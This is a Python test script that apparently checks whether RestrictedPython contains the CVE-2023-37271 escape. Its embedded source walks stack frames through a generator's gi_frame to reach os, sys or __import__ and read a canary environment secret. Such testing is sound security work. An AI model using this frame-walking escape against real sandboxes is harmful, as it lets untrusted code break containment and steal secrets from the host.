# from: RestrictedPython CVE-2023-37271
# after: the frames below, through a generator, with no rule about frames and no guard
# must: contained
from RestrictedPython import RestrictingNodeTransformer, compile_restricted_exec, safe_builtins


class Lax(RestrictingNodeTransformer):
    def visit_Attribute(self, node):
        return self.node_contents_visit(node)


SOURCE = """
found = []
def walk():
    frame = (g.gi_frame.f_back for x in (1,))
    at = g.gi_frame
    while at is not None:
        found.append((at.f_code.co_name, sorted(at.f_globals.keys()), at.f_builtins))
        for space in (at.f_globals, at.f_builtins, at.f_locals):
            if 'os' in space:
                found.append(space['os'].environ['CANARY_SECRET'])
            if 'sys' in space:
                found.append(space['sys'].modules['os'].environ['CANARY_SECRET'])
            if '__import__' in space:
                found.append(space['__import__']('os').environ['CANARY_SECRET'])
        at = at.f_back
        yield at
g = walk()
for x in g:
    pass
"""
for policy in (RestrictingNodeTransformer, Lax):
    for builtins in (safe_builtins, __builtins__):
        result = compile_restricted_exec(SOURCE, policy=policy)
        if result.errors:
            print(*result.errors, sep='\n')
            continue
        names = {'__builtins__': builtins, '_getiter_': iter, '_getattr_': getattr, '_getitem_': lambda o, i: o[i]}
        try:
            exec(result.code, names)
        except Exception as e:
            print(type(e).__name__, e)
        print(names['found'] if 'found' in names else None)
